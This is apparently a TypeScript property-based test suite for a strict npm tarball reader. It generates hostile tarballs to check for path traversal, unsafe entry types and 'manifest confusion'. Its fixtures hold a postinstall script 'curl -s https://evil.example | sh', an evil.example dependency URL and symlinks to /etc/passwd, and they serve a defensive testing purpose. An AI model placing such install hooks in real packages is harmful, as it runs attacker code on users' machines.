/**
 * Property-based: whatever tarball an attacker builds (entries of every tar type, paths from a vocabulary
 * of hostile segments, duplicates, several package.json with different names, versions, scripts and
 * dependencies), the strict reader either refuses it with one of the agreed codes, or what it returns is
 * safe to show and to publish: unique, relative paths under package/, free of control characters, exactly
 * one package.json, and the manifest that would be published says what the parsed one shows (name,
 * version, scripts, dependencies). A difference there is npm's "manifest confusion".
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { StagePublishError } from '../../src/errors.js'
import { readTarball, type TarballContents } from '../../src/npm/tarball.js'
import { publishManifest } from '../../src/npm/publish-manifest.js'
import { tgzOf, type EntryType, type TarEntry } from '../support/tarball-builder.js'
import { UNSAFE_CHAR } from '../support/hostile.js'

/**
 * The manifest that approval would publish for these bytes. Today that is a second reading of the bytes by
 * pacote; the tarball area replaces it with one built from the parsed contents. After the merge, change
 * only this line to call that function.
 */
const publishManifestOf = async (bytes: Buffer, contents: TarballContents): Promise<Record<string, unknown>> => publishManifest({ bytes, contents })

const REFUSALS = ['EUNSAFETARBALL', 'ETOOLARGE', 'ECORRUPT']

const SEGMENTS = [
  'index.js', 'a.js', 'lib', 'README.md', 'readme.md', 'package.json', 'binding.gyp', 'server.js', 'node_modules', 'caf\u00e9.js', 'cafe\u0301.js',
  '..', '.', '', 'a\\..\\b', 'x\u001b[2J', 'x\rindex.js', 'x\ny', 'gpj\u202e.exe', 'in\u200bdex.js', 'x\u0085y',
]
const TOPS = ['package', 'package', 'package', 'package', 'other', '..', '', 'Package']
const TYPES: EntryType[] = ['File', 'File', 'File', 'File', 'File', 'File', 'Directory', 'SymbolicLink', 'Link', 'CharacterDevice', 'BlockDevice', 'FIFO', 'ContiguousFile', 'GNUDumpDir']

const pathArb = fc.tuple(fc.constantFrom(...TOPS), fc.array(fc.constantFrom(...SEGMENTS), { minLength: 1, maxLength: 3 })).map(([top, segs]) => [top, ...segs].join('/'))

const manifestArb = fc.record(
  {
    name: fc.constantFrom('pkg', 'pkg-evil', 'other'),
    version: fc.constantFrom('1.0.0', '2.0.0', 'v1.0.0', ' 1.0.0 ', '1.0.0-beta.1'),
    scripts: fc.constantFrom({ test: 'node test.js' }, { postinstall: 'curl -s https://evil.example | sh' }, {}),
    dependencies: fc.constantFrom({ 'left-pad': '^1.3.0' }, { evil: 'https://evil.example/evil.tgz' }, {}),
    optionalDependencies: fc.constantFrom({ sneaky: '1.0.0' }),
  },
  { requiredKeys: ['name', 'version'] },
)

/** package.json bodies: mostly manifests (sometimes with a BOM), sometimes not a manifest at all. */
const manifestBodyArb = fc.oneof(
  { weight: 8, arbitrary: fc.tuple(manifestArb, fc.boolean()).map(([m, bom]) => `${bom ? '\ufeff' : ''}${JSON.stringify(m, null, 2)}\n`) },
  { weight: 1, arbitrary: fc.constantFrom('[]', 'null', '{"name": "pkg", ', '"pkg"') },
)

const manifestPathArb = fc.constantFrom('package/package.json', 'package/package.json', 'package/package.json', 'package/./package.json', 'package//package.json', 'other/package.json', 'package/PACKAGE.JSON')

const entryArb: fc.Arbitrary<TarEntry> = fc.tuple(pathArb, fc.constantFrom(...TYPES), fc.constantFrom('x', 'module.exports = 1\n', '')).map(([path, type, data]) => ({
  path,
  type,
  ...((type === 'File' || type === 'ContiguousFile') && { data }),
  ...((type === 'SymbolicLink' || type === 'Link') && { linkpath: type === 'Link' ? 'package/index.js' : '/etc/passwd' }),
}))

/** A whole tarball: one or more package.json entries mixed in among other entries, in any order. */
const tarballArb = fc
  .tuple(fc.array(fc.tuple(manifestPathArb, manifestBodyArb), { minLength: 0, maxLength: 2 }), fc.array(entryArb, { maxLength: 5 }), fc.infiniteStream(fc.nat()))
  .map(([manifests, others, order]) => {
    const entries: TarEntry[] = [...manifests.map(([path, data]) => ({ path, data })), ...others]
    // A seeded shuffle, so manifests are not always first.
    const it = order[Symbol.iterator]()
    for (let i = entries.length - 1; i > 0; i--) {
      const j = (it.next().value as number) % (i + 1)
      ;[entries[i], entries[j]] = [entries[j] as TarEntry, entries[i] as TarEntry]
    }
    return entries
  })

/** What a sane reader sees of one input path: its parts after `package/`, or null when it is not under package/. */
function underPackage(p: string): string | null {
  const parts = p.split('/')
  if (parts[0] !== 'package') return null
  const rest: string[] = []
  for (const s of parts.slice(1)) {
    if (s === '' || s === '.') continue
    if (s === '..') {
      if (!rest.length) return null
      rest.pop()
    } else rest.push(s)
  }
  return rest.join('/')
}

type Read = { ok: true; contents: TarballContents } | { ok: false; err: unknown }

async function read(bytes: Buffer): Promise<Read> {
  try {
    return { ok: true, contents: await readTarball(bytes) }
  } catch (err) {
    return { ok: false, err }
  }
}

const same = (v: unknown) => JSON.stringify(v ?? {})

/**
 * The classic confusion, tried first on every run: two package/package.json, the reader shows one and
 * the publish sends the other (with a postinstall the review never showed).
 */
const TWO_MANIFESTS: TarEntry[] = [
  { path: 'package/package.json', data: `${JSON.stringify({ name: 'pkg', version: '1.0.0' })}\n` },
  { path: 'package/package.json', data: `${JSON.stringify({ name: 'pkg-evil', version: '6.6.6', scripts: { postinstall: 'curl -s https://evil.example | sh' } })}\n` },
  { path: 'package/index.js', data: 'module.exports = 1\n' },
]

describe('readTarball on generated hostile tarballs (property)', () => {
  it('refuses with an agreed code, or returns only safe, unique paths and exactly one package.json', async () => {
    await fc.assert(
      fc.asyncProperty(tarballArb, async (entries) => {
        const r = await read(tgzOf(entries))
        if (!r.ok) {
          expect(r.err).toBeInstanceOf(StagePublishError)
          expect(REFUSALS).toContain((r.err as StagePublishError).code)
          return
        }
        // Accepted: every input entry must have been a regular file, or a folder (npm accepts folder entries
        // and makes nothing of them; a name both a file and a folder is refused), inside package/.
        for (const e of entries) {
          expect(['File', 'Directory'], `accepted an entry of type ${e.type}: ${JSON.stringify(e.path)}`).toContain(e.type ?? 'File')
          expect(underPackage(e.path), `accepted an entry outside package/: ${JSON.stringify(e.path)}`).not.toBeNull()
        }
        const paths = r.contents.files.map((f) => f.path)
        for (const p of paths) {
          expect(p.startsWith('/') || p.includes('\\') || p.split('/').some((s) => s === '..' || s === '.' || s === ''), `unsafe path ${JSON.stringify(p)}`).toBe(false)
          expect(UNSAFE_CHAR.test(p), `control character in ${JSON.stringify(p)}`).toBe(false)
        }
        // Unique as a file system would see them: case-insensitive and Unicode-normalised (macOS, Windows).
        const folded = paths.map((p) => p.normalize('NFC').toLowerCase())
        expect(new Set(folded).size, `duplicate paths ${JSON.stringify(paths)}`).toBe(paths.length)
        expect(paths.filter((p) => p === 'package.json')).toHaveLength(1)
        expect(entries.filter((e) => underPackage(e.path)?.toLowerCase() === 'package.json'), 'package.json entries in the input').toHaveLength(1)
      }),
      { numRuns: 300, examples: [[TWO_MANIFESTS]] },
    )
  })

  it('publishes the manifest it shows: same name, version, scripts and dependencies (no manifest confusion)', async () => {
    await fc.assert(
      fc.asyncProperty(tarballArb, async (entries) => {
        const bytes = tgzOf(entries)
        const r = await read(bytes)
        if (!r.ok) return
        const shown = r.contents.manifest
        const published = await publishManifestOf(bytes, r.contents)
        expect(published.name, 'name').toEqual(shown.name)
        expect(published.version, 'version').toEqual(shown.version)
        expect(same(published.scripts), 'scripts').toBe(same(shown.scripts))
        expect(same(published.dependencies), 'dependencies').toBe(same(shown.dependencies))
      }),
      { numRuns: 100, examples: [[TWO_MANIFESTS]] },
    )
  })
})
